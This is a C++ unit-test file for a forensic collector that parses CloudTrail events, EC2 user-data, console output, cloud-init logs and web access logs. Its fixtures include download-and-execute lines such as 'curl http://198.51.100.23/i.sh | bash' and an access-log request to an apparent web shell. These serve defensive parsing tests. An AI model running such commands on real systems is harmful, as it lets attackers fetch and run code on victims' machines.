// What the cloud knows of an instance: CloudTrail, user-data, console output; and cloud-init's side of it.
#include <fmt/format.h>
#include <gmock/gmock.h>

#include "artefact/access_log.h"
#include "artefact/cloud_init.h"
#include "artefact/cloudtrail.h"
#include "artefact/console_output.h"
#include "artefact/user_data.h"
#include "core/file.h"
#include "core/hash.h"
#include "support/fake_machine.h"

namespace icecore::artefact {
namespace {

using ::testing::ElementsAre;

// A record of "CloudTrail log event examples" in AWS's user guide, as LookupEvents wraps it.
constexpr std::string_view kLookup =
    R"({"EventId":"e8b1","EventName":"RunInstances","ReadOnly":"false","AccessKeyId":"AKIA1","EventTime":"2026-11-24T05:05:00Z","EventSource":"ec2.amazonaws.com","Username":"deploy","Resources":[{"ResourceType":"AWS::EC2::Instance","ResourceName":"i-1"}],"CloudTrailEvent":"{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::111122223333:user/deploy\",\"accountId\":\"111122223333\",\"accessKeyId\":\"AKIA1\",\"userName\":\"deploy\"},\"eventTime\":\"2026-11-24T05:05:00Z\",\"eventSource\":\"ec2.amazonaws.com\",\"eventName\":\"RunInstances\",\"awsRegion\":\"us-west-2\",\"sourceIPAddress\":\"203.0.113.66\",\"userAgent\":\"Boto3\",\"errorCode\":\"Client.InstanceLimitExceeded\",\"requestParameters\":{\"instanceType\":\"c5.metal\"},\"responseElements\":null,\"eventID\":\"e8b1\",\"readOnly\":false}"})";

TEST(CloudTrail, AnEventAndWhereItStands) {
  const auto event = cloudtrail_event(kLookup, 7, "cloudtrail/events.jsonl");
  ICECORE_ASSERT_OK(event);
  EXPECT_EQ(event->data_type, "aws:cloudtrail:entry");
  EXPECT_EQ(to_iso8601(event->time, 0), "2026-11-24T05:05:00Z");
  for (const auto& [name, value] : std::map<std::string, std::string>{{"user", "deploy"},
                                                                      {"access_key", "AKIA1"},
                                                                      {"source_ip", "203.0.113.66"},
                                                                      {"event_name", "RunInstances"},
                                                                      {"error_code", "Client.InstanceLimitExceeded"},
                                                                      {"user_agent", "Boto3"},
                                                                      {"event_id", "e8b1"},
                                                                      {"resources", "AWS::EC2::Instance i-1"},
                                                                      {"read_only", "false"},
                                                                      {"request", "{\"instanceType\":\"c5.metal\"}"}})
    EXPECT_EQ(event->field(name), value) << name;
  EXPECT_EQ(event->where.kind, Provenance::Kind::kCloudTrail);
  EXPECT_EQ(event->where.event_id, "e8b1");
  EXPECT_EQ(event->where.line, 7U);
}

TEST(CloudTrail, ABadLineCostsOneEvent) {
  EventList events;
  Anomalies anomalies;
  const std::string text = std::string(kLookup) + "\n{\"EventTime\": 1\n[]\n{\"eventName\":\"x\"}\n" + std::string(kLookup) + "\n";
  ICECORE_ASSERT_OK(cloudtrail_events(text, "events.jsonl", events, anomalies));
  EXPECT_EQ(events.events.size(), 2U);
  EXPECT_EQ(events.events[1].where.line, 5U);
  EXPECT_EQ(anomalies.count(), 3U);
}

TEST(UserData, Script) {
  const auto parts = unpack_user_data("#!/bin/bash\n# note\ncurl http://198.51.100.23/i.sh | bash\n");
  ASSERT_EQ(parts.size(), 1U);
  EXPECT_EQ(parts[0].kind, UserDataPart::Kind::kScript);
  EXPECT_THAT(user_data_commands(parts[0]), ElementsAre("curl http://198.51.100.23/i.sh | bash"));
}

// Python's email package, which cloud-init's own make-mime uses, writes the message.
TEST(UserData, MimeGzipAndBase64InEachOther) {
  const test::ScratchFolder scratch;
  ICECORE_ASSERT_OK(write_file_atomically(
      scratch / "make.py",
      "import gzip, sys\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\nfrom email.mime.base import "
      "MIMEBase\nfrom email import encoders\n"
      "outer = MIMEMultipart()\na = MIMEText('#cloud-config\\nruncmd:\\n  - [ sh, -c, \"id\" ]\\n  - curl x | sh\\npackages:\\n  - nmap\\n', "
      "'cloud-config', 'utf-8')\n"
      "a.add_header('Content-Disposition', 'attachment; filename=\"a.yaml\"')\nouter.attach(a)\ninner = MIMEMultipart()\n"
      "b = MIMEText('#!/bin/sh\\necho hi = there\\n', 'x-shellscript', 'us-ascii')\nb.add_header('Content-Disposition', 'attachment', "
      "filename='b.sh')\ninner.attach(b)\n"
      "c = MIMEBase('application', "
      "'octet-stream')\nc.set_payload(gzip.compress(b'#!/bin/sh\\npacked\\n'))\nencoders.encode_base64(c)\ninner.attach(c)\nouter.attach(inner)\n"
      "sys.stdout.buffer.write(gzip.compress(outer.as_bytes()))\n"));
  test::run_ok(fmt::format("cd {} && python3 make.py > data.gz", scratch.path().string()));
  const std::string raw = read_text_file(scratch / "data.gz").value();
  for (const std::string& form : {raw, to_base64(as_bytes(raw))}) {
    const auto parts = unpack_user_data(form);
    ASSERT_EQ(parts.size(), 3U);
    EXPECT_EQ(parts[0].kind, UserDataPart::Kind::kCloudConfig);
    EXPECT_EQ(parts[0].file_name, "a.yaml");
    EXPECT_THAT(user_data_commands(parts[0]), ElementsAre("[ sh, -c, \"id\" ]", "curl x | sh"));
    EXPECT_EQ(parts[1].kind, UserDataPart::Kind::kScript);
    EXPECT_EQ(parts[1].content, "#!/bin/sh\necho hi = there\n");
    EXPECT_EQ(parts[2].content, "#!/bin/sh\npacked\n");
    EXPECT_EQ(parts[2].kind, UserDataPart::Kind::kScript);
  }
}

TEST(UserData, WhatIsNoneOfTheseIsKept) {
  EXPECT_TRUE(unpack_user_data(" \n").empty());
  const auto parts = unpack_user_data("just words");
  ASSERT_EQ(parts.size(), 1U);
  EXPECT_EQ(parts[0].content, "just words");
  EXPECT_EQ(parts[0].kind, UserDataPart::Kind::kOther);
  std::string nested = "x";
  for (int i = 0; i < 20; ++i) nested = to_base64(as_bytes(nested + "padding to be long"));
  EXPECT_EQ(unpack_user_data(nested).size(), 1U);
}

TEST(Console, UptimeIsDatedByWhatTheBootSays) {
  const std::string text =
      "[    0.000000] Linux version 6.1.0\r\n\x1b[1;32m[    1.500000] nvme nvme0: up\x1b[0m\n"
      "[    2.000000] rtc_cmos 00:00: setting system clock to 2026-11-24T05:43:02 UTC (1795498982)\n[    3.250000] later\n"
      "Cloud-init v. 22.4.2 running 'modules:final' at Tue, 24 Nov 2026 05:43:30 +0000. Up 30.12 seconds.\nplain\n[    0.000000] second boot\n";
  const auto lines = parse_console(text);
  ASSERT_EQ(lines.size(), 7U);
  EXPECT_EQ(to_iso8601(*lines[0].time, 3), "2026-11-24T05:43:00.000Z");
  EXPECT_EQ(to_iso8601(*lines[1].time, 3), "2026-11-24T05:43:01.500Z");
  EXPECT_EQ(lines[1].text, "nvme nvme0: up");
  EXPECT_EQ(to_iso8601(*lines[3].time, 3), "2026-11-24T05:43:03.250Z");
  EXPECT_EQ(to_iso8601(*lines[4].time, 0), "2026-11-24T05:43:30Z");
  EXPECT_FALSE(lines[5].time);
  EXPECT_FALSE(lines[6].time);  // of a boot that told no time
}

TEST(CloudInit, LogsAndCopies) {
  test::FakeMachine fake;
  fake.root->file("/usr/share/zoneinfo/Europe/Berlin", read_text_file("/usr/share/zoneinfo/Europe/Berlin").value());
  fake.root->link("/etc/localtime", "/usr/share/zoneinfo/Europe/Berlin");
  fake.root->file("/var/log/cloud-init.log", "2026-11-24 06:45:00,123 - util.py[DEBUG]: Running command ['/x']\nTraceback\n");
  fake.root->file(
      "/var/log/cloud-init-output.log",
      "Cloud-init v. 22.4.2 running 'modules:final' at Tue, 24 Nov 2026 05:45:00 +0000. Up 12.34 seconds.\n+ curl -fsSL http://198.51.100.23/i.sh\n");
  fake.root->file("/var/lib/cloud/instances/i-1/user-data.txt", "#!/bin/bash\ncurl http://198.51.100.23/i.sh | bash\n", {1764000000, 9});
  fake.root->link("/var/lib/cloud/instance", "/var/lib/cloud/instances/i-1");
  fake.start();
  const Subject subject{*fake.machine, fake.facts, fake.anomalies};
  EventList events;
  ICECORE_ASSERT_OK(collect_cloud_init(subject, events));
  ASSERT_EQ(events.events.size(), 4U);
  EXPECT_EQ(to_iso8601(events.events[0].time, 3), "2026-11-24T05:45:00.123Z");
  EXPECT_EQ(events.events[0].field("source"), "util.py");
  EXPECT_EQ(to_iso8601(events.events[2].time, 0), "2026-11-24T05:45:00Z");
  EXPECT_EQ(events.events[2].description, "Recorded After");
  EXPECT_EQ(events.events[2].field("body"), "+ curl -fsSL http://198.51.100.23/i.sh");
  EXPECT_EQ(events.events[3].where.path, "/var/lib/cloud/instances/i-1/user-data.txt");
}

TEST(AccessLog, CombinedAndVirtualHosts) {
  const auto line =
      parse_access_line(R"(203.0.113.66 - - [24/Nov/2026:05:54:48 +0100] "POST /uploads/.thumb.php?c=\"id\" HTTP/1.1" 200 42 "-" "curl/7.88.1")");
  ASSERT_TRUE(line);
  EXPECT_EQ(to_iso8601(line->time, 0), "2026-11-24T04:54:48Z");
  EXPECT_EQ(line->method, "POST");
  EXPECT_EQ(line->path, R"(/uploads/.thumb.php?c=\"id\")");
  EXPECT_EQ(line->status, 200U);
  EXPECT_EQ(line->bytes, 42U);
  EXPECT_EQ(line->referer, "");
  EXPECT_EQ(line->user_agent, "curl/7.88.1");
  EXPECT_EQ(parse_access_line(R"(shop:443 10.0.0.1 - bob [24/Nov/2026:05:54:48 +0000] "GET / HTTP/1.1" 200 -)")->user, "bob");
  const auto probe = parse_access_line(R"(203.0.113.66 - - [24/Nov/2026:05:54:48 +0000] "\x16\x03\x01" 400 150 "-" "-")");
  ASSERT_TRUE(probe);
  EXPECT_EQ(probe->request, R"(\x16\x03\x01)");
  EXPECT_EQ(probe->method, "");
  for (const std::string bad : {"", "a b c", "1.2.3.4 - - [99/Nov/2026:05:54:48 +0000] \"GET / HTTP/1.1\" 200 1",
                                "1.2.3.4 - - [24/Nov/2026:05:54:48 +0000] \"GET / HTTP/1.1 200 1"})
    EXPECT_FALSE(parse_access_line(bad)) << bad;
}

// Every format at once, on a machine where every file is rubbish: nothing ends the run.
TEST(Registry, RubbishEverywhereEndsNothing) {
  test::FakeMachine fake;
  std::string rubbish;
  for (int i = 0; i < 5000; ++i) rubbish += static_cast<char>(i * 7919 >> 3);
  for (const std::string path : {"/etc/passwd",
                                 "/etc/shadow",
                                 "/etc/group",
                                 "/etc/fstab",
                                 "/etc/localtime",
                                 "/etc/hostname",
                                 "/etc/crontab",
                                 "/etc/cron.d/x",
                                 "/etc/sudoers",
                                 "/etc/ssh/sshd_config",
                                 "/root/.bash_history",
                                 "/root/.zsh_history",
                                 "/root/.ssh/authorized_keys",
                                 "/root/.ssh/known_hosts",
                                 "/var/log/wtmp",
                                 "/var/log/btmp",
                                 "/var/log/lastlog",
                                 "/var/log/auth.log",
                                 "/var/log/auth.log.1.gz",
                                 "/var/log/dpkg.log",
                                 "/var/log/apt/history.log",
                                 "/var/log/cloud-init.log",
                                 "/var/log/cloud-init-output.log",
                                 "/var/lib/cloud/instances/i/user-data.txt",
                                 "/var/log/journal/x/system.journal",
                                 "/var/log/nginx/access.log",
                                 "/etc/systemd/system/x.service",
                                 "/var/lib/dpkg/status"})
    fake.root->file(path, rubbish);
  fake.start();
  EventList events;
  ICECORE_ASSERT_OK(collect_all({*fake.machine, fake.facts, fake.anomalies}, events, no_progress()));
  EXPECT_GT(fake.anomalies.count(), 2U);
  EXPECT_GE(all_collectors().size(), 11U);
}

// A block that does not match its hash is no damage of a log: it ends the run.
TEST(Registry, IntegrityFailuresAreNotSwallowed) {
  for (const std::string path : {"/var/log/wtmp", "/var/log/lastlog", "/var/log/auth.log", "/etc/crontab", "/etc/systemd/system/x.service",
                                 "/var/log/journal/x/system.journal", "/var/log/nginx/access.log", "/var/log/dpkg.log", "/var/log/cloud-init.log",
                                 "/root/.ssh/authorized_keys", "/root/.bash_history"}) {
    test::FakeMachine fake;
    fake.root->damage(fake.root->file(path, std::string(1000, 'x')), Code::kIntegrity);
    fake.start();
    EventList events;
    ICECORE_EXPECT_CODE(collect_all({*fake.machine, fake.facts, fake.anomalies}, events, no_progress()), Code::kIntegrity);
  }
}

}  // namespace
}  // namespace icecore::artefact
